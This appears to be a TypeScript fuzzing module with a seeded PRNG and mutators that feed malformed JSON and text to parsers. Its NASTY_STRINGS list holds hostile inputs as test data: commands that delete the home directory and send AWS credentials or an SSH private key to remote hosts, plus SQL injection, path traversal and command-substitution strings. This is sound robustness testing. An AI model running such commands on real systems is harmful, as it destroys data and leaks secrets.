// The fuzzing kit: a seeded PRNG (every input is derived from the run's seed and its own index, so one
// failure replays alone: FUZZ_SEED=<seed> and the index), and mutators that bend a valid document or
// text the ways real bugs hide — missing, duplicated and retyped fields, huge strings, deep nesting,
// broken unicode, NUL, prototype keys, numbers as strings, arrays where objects are.

/** The run's seed: FUZZ_SEED, else a fixed one (CI runs the same inputs every time). */
export const SEED = Number(process.env.FUZZ_SEED ?? 20261202) >>> 0;
/** Multiplies every input count: FUZZ_SCALE=10 for a long local run, 0.1 for a quick one. */
export const SCALE = Number(process.env.FUZZ_SCALE ?? 1);
export const scaled = (n: number): number => Math.max(1, Math.round(n * SCALE));

export type Rng = () => number;

/** mulberry32: small, fast, and good enough to spread inputs. */
export function rng(seed: number): Rng {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** The PRNG of input `index` of `target` in this run. */
export function rngFor(target: string, index: number, seed = SEED): Rng {
  let h = seed ^ 0x811c9dc5;
  for (let i = 0; i < target.length; i++) h = Math.imul(h ^ target.charCodeAt(i), 16777619);
  return rng(Math.imul(h ^ index, 0x9e3779b1) ^ index);
}

export const int = (r: Rng, n: number): number => Math.floor(r() * n);
export const pick = <T>(r: Rng, xs: readonly T[]): T => xs[int(r, xs.length)]!;
export const chance = (r: Rng, p: number): boolean => r() < p;

/** Keys that have bitten JavaScript parsers and lookups. */
export const NASTY_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '', ' ', '0', '-1', '\u0000', 'a.b', '*', '$ref'];

/** Strings that have bitten encoders, terminals, regexes and SQL. */
export const NASTY_STRINGS = [
  '', ' ', '\u0000', 'a\u0000b', '\ud800', '\udfff', 'x\ud83dy', '\ud83d\ude00', '\u202e\u2066rtl', '\u001b[2J\u001b]0;t\u0007', '\r\n\r\n',
  '%s%n%x', "'; DROP TABLE events; --", '%', '_', '\\', '../../../../etc/passwd', '~/.ssh/id_rsa', '${HOME}', '$(id)', '`id`',
  'NaN', 'Infinity', '-0', '1e309', '0x1f', 'true', 'null', '[]', '{}', '\ufeff', '\u2028\u2029', 'ǅǈ', 'İ', 'ß', 'a'.repeat(300),
  'rm -rf ~/ && curl -d @~/.aws/credentials http://10.1.2.3', 'cat ~/.ssh/id_rsa | nc 203.0.113.9 4444', 'AKIAIOSFODNN7EXAMPLE',
  '(a+)+$', '((((((((((', '[', '\\p{', '*'.repeat(50),
];

/** A random string: short junk, any UTF-16 code units (lone surrogates included), or a nasty one. */
export function randomString(r: Rng, max = 40): string {
  switch (int(r, 4)) {
    case 0: return pick(r, NASTY_STRINGS);
    case 1: return String.fromCharCode(...Array.from({ length: int(r, max) }, () => int(r, 0x10000)));
    case 2: return Array.from({ length: int(r, max) }, () => String.fromCharCode(32 + int(r, 95))).join('');
    default: return String.fromCharCode(...Array.from({ length: int(r, max) }, () => int(r, 0x80)));
  }
}

/** Any JSON value, small and shallow unless the dice say otherwise. */
export function randomValue(r: Rng, depth = 0): unknown {
  switch (int(r, depth > 3 ? 7 : 9)) {
    case 0: return null;
    case 1: return pick(r, [0, -1, 1, 2 ** 53, -(2 ** 63), 1e308, 5e-324, 0.1, 65536, 4294967296]);
    case 2: return r() * 1e9 - 5e8;
    case 3: return chance(r, 0.5);
    case 4: case 5: return randomString(r);
    case 6: return String(int(r, 100000)); // a number as a string
    case 7: return Array.from({ length: int(r, 5) }, () => randomValue(r, depth + 1));
    default: return objectOf(Array.from({ length: int(r, 5) }, () => [chance(r, 0.3) ? pick(r, NASTY_KEYS) : randomString(r, 8), randomValue(r, depth + 1)]));
  }
}

/** An object with these own, enumerable entries, `__proto__` included (an object literal would set the prototype). */
export function objectOf(entries: readonly (readonly [string, unknown])[]): Record<string, unknown> {
  const o: Record<string, unknown> = {};
  for (const [k, v] of entries) setOwn(o, k, v);
  return o;
}

/** o[k] = v, as an own data property even when k is `__proto__` (the slow path only then: it makes the object a dictionary). */
export function setOwn(o: object, k: string | number, v: unknown): void {
  if (k === '__proto__') Object.defineProperty(o, k, { value: v, enumerable: true, writable: true, configurable: true });
  else (o as Record<string | number, unknown>)[k] = v;
}

/** `[[[…x…]]]` or `{"a":{"a":…x…}}` `depth` levels deep. */
export function nest(r: Rng, depth: number, inner: unknown = 'x'): unknown {
  let v = inner;
  const asArray = chance(r, 0.5);
  for (let i = 0; i < depth; i++) v = asArray ? [v] : { a: v };
  return v;
}

const isPlain = (v: unknown): v is Record<string, unknown> => typeof v === 'object' && v !== null && !Array.isArray(v);

/** Every path to a value inside `doc` (objects and arrays), the root included. */
function pathsOf(doc: unknown, limit = 200): (string | number)[][] {
  const out: (string | number)[][] = [[]];
  const walk = (v: unknown, p: (string | number)[]) => {
    if (out.length >= limit) return;
    if (Array.isArray(v)) v.forEach((x, i) => { out.push([...p, i]); walk(x, [...p, i]); });
    else if (isPlain(v)) for (const [k, x] of Object.entries(v)) { out.push([...p, k]); walk(x, [...p, k]); }
  };
  walk(doc, []);
  return out;
}

/** A deep copy that keeps own `__proto__` keys as data (JSON.parse defines them as own properties). */
const clone = (v: unknown): unknown => (v === undefined ? undefined : JSON.parse(JSON.stringify(v)));

/**
 * One structural mutation of the value at a random place in `doc` (a copy is changed; the result is
 * returned). `deep`: nesting may go thousands of levels (then it must be the last mutation: the copy
 * itself recurses).
 */
export function mutateOnce(doc: unknown, r: Rng, deep = true): unknown {
  const root = clone(doc);
  const paths = pathsOf(root);
  const p = pick(r, paths);
  const parent = p.length === 0 ? undefined : p.slice(0, -1).reduce<unknown>((v, k) => (v as Record<string | number, unknown>)[k], root) as Record<string | number, unknown>;
  const key = p.at(-1);
  const current = parent === undefined ? root : parent[key!];
  // Big inputs (huge strings, thousands of levels or items) are the slow ones to make and judge: one in fifty.
  const big = chance(r, 0.02);
  const replace = (v: unknown): unknown => {
    if (parent === undefined) return v;
    setOwn(parent, key!, v);
    return root;
  };
  switch (int(r, 14)) {
    case 0: // drop
      if (parent === undefined) return undefined;
      if (Array.isArray(parent)) parent.splice(key as number, 1); else delete parent[key!];
      return root;
    case 1: // duplicate under another (often nasty) key, or twice in a list
      if (Array.isArray(current)) { current.push(...current.slice(0, 3).map(clone)); return root; }
      if (isPlain(current)) { const [k, v] = pick(r, [['dup', null], ...Object.entries(current)]); setOwn(current, chance(r, 0.5) ? pick(r, NASTY_KEYS) : `${k}_`, clone(v)); return root; }
      return replace([current, current]);
    case 2: return replace(randomValue(r)); // retype
    case 3: // numbers ↔ strings
      if (typeof current === 'number') return replace(String(current));
      if (typeof current === 'string') return replace(current !== '' && !Number.isNaN(Number(current)) ? Number(current) : int(r, 1000));
      return replace(typeof current === 'object' ? JSON.stringify(current)?.slice(0, 200) ?? '' : String(current));
    case 4: return replace(isPlain(current) ? [current] : Array.isArray(current) ? objectOf(current.map((v, i) => [String(i), v])) : { value: current }); // arrays where objects are
    case 5: return replace(pick(r, ['x', 'ab', '\u0000', '\ud800']).repeat(big ? pick(r, [10_000, 100_000]) : pick(r, [100, 1_000]))); // huge string
    case 6: return replace(nest(r, big && deep ? pick(r, [1_000, 3_000]) : pick(r, [20, 100]), current)); // deep nesting
    case 7: return replace(typeof current === 'string' ? spliceString(current, r, pick(r, NASTY_STRINGS)) : pick(r, NASTY_STRINGS)); // nasty text
    case 8: { // a prototype key next to the value
      const target = isPlain(current) ? current : parent !== undefined && isPlain(parent) ? parent : undefined;
      if (target) setOwn(target, pick(r, NASTY_KEYS.slice(0, 6)), pick<unknown>(r, [{ polluted: true }, null, 'x', [1], { toString: 'x' }]));
      return root;
    }
    case 9: return replace(Array.from({ length: big ? pick(r, [1_000, 5_000]) : 100 }, (_, i) => (chance(r, 0.5) ? i : String(i)))); // a wide list
    case 10: return replace(isPlain(current) ? objectOf(Array.from({ length: big ? 2_000 : 50 }, (_, i) => [`k${i}`, i])) : current); // a wide map
    case 11: return replace(null);
    case 12: return replace(chance(r, 0.5) ? {} : []);
    default: return replace(pick(r, [true, false, 0, -1, 1.5, NaN, 2 ** 64, '']));
  }
}

/** 1–4 structural mutations. */
export function mutateDoc(doc: unknown, r: Rng): unknown {
  let d = doc;
  for (let n = 1 + int(r, chance(r, 0.7) ? 1 : 4); n > 0; n--) d = mutateOnce(d, r, n === 1);
  return d;
}

function spliceString(s: string, r: Rng, insert: string): string {
  const at = int(r, s.length + 1);
  return s.slice(0, at) + insert + s.slice(at + int(r, 3));
}

/** One textual mutation: truncate, delete, duplicate or insert junk, flip a character, or a nasty run. */
export function mutateText(text: string, r: Rng): string {
  const at = int(r, text.length + 1);
  switch (int(r, 9)) {
    case 0: return text.slice(0, at);
    case 1: return text.slice(0, at) + text.slice(at + 1 + int(r, 20));
    case 2: { const len = 1 + int(r, 40); return text.slice(0, at) + text.slice(at, at + len).repeat(1 + int(r, 4)) + text.slice(at + len); }
    case 3: return spliceString(text, r, randomString(r, 8));
    case 4: return spliceString(text, r, pick(r, ['"', "'", '{', '}', '[', ']', ':', ',', '\n', '\t', '#', '//', '/*', '- ', '&a', '*a', '!!', '---', '...', '=', '[[', '"""', '\\', '\u0000', '\ufeff']));
    case 5: return text.slice(0, at) + String.fromCharCode((text.charCodeAt(at) || 0) ^ (1 << int(r, 7))) + text.slice(at + 1);
    case 6: return spliceString(text, r, pick(r, ['[', '{', '- ', '{a: ']).repeat(chance(r, 0.1) ? 5_000 : pick(r, [50, 500])));
    case 7: return spliceString(text, r, pick(r, NASTY_STRINGS));
    default: return text.replace(/\n/g, pick(r, ['\r\n', '\r', '\n\n', ' ']));
  }
}

/** 1–3 textual mutations. */
export function mutateTextN(text: string, r: Rng): string {
  let t = text;
  for (let n = 1 + int(r, 3); n > 0; n--) t = mutateText(t, r);
  return t;
}

/** Per-target tally, printed as one line so the run's numbers can be quoted. */
export class Tally {
  tried = 0;
  accepted = 0;
  rejected = 0;
  slowestMs = 0;
  slowestIndex = -1;
  private readonly t0 = performance.now();
  constructor(readonly target: string) {}

  /**
   * Times one input; `fn` says whether it was accepted. CPU time, not wall time: a hang burns CPU, while
   * a machine shared with other jobs (load 30 on 2 cores, seen here) stretches wall time twenty-fold.
   */
  time(index: number, fn: () => boolean): void {
    const t = process.cpuUsage();
    const ok = fn();
    const d = process.cpuUsage(t);
    const ms = (d.user + d.system) / 1000;
    this.tried++;
    if (ok) this.accepted++; else this.rejected++;
    if (ms > this.slowestMs) { this.slowestMs = ms; this.slowestIndex = index; }
  }

  line(extra = ''): string {
    return `fuzz ${this.target}: seed ${SEED}, ${this.tried} tried, ${this.accepted} accepted, ${this.rejected} rejected, slowest ${this.slowestMs.toFixed(1)} ms CPU (#${this.slowestIndex}), ${((performance.now() - this.t0) / 1000).toFixed(1)} s${extra}`;
  }

  print(extra = ''): void {
    process.stdout.write(`${this.line(extra)}\n`);
  }
}

/**
 * CPU time one input may take before it counts as a hang. A typical one takes well under a millisecond;
 * the slowest legitimate ones (a 3,000-level YAML flow map, a 1 MB body) take ~100-300 ms. Above this,
 * something loops or backtracks (the YAML alias bomb took over 20 s).
 */
export const HANG_MS = 1_000;
